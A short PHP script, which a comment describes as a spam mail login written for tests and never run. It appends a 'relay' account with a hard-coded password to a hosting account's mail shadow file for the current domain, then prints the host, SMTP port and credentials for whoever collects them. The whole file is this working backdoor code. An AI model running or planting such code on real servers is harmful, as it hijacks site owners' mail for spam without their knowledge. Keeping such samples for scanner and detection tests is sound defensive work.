<?php
// a mail login planted for spam, its path made by sprintf() (written for the tests, never run)
$user = get_current_user();
$domain = preg_replace('/^www\./', '', $_SERVER['SERVER_NAME']);
$fh = fopen(sprintf('/home/%s/etc/%s/shadow', $user, $domain), 'ab');
fwrite($fh, 'relay:' . crypt('letmein', '$6$salt$') . ":19000:::::\n");
fclose($fh);
echo "$domain|587|relay@$domain|letmein";
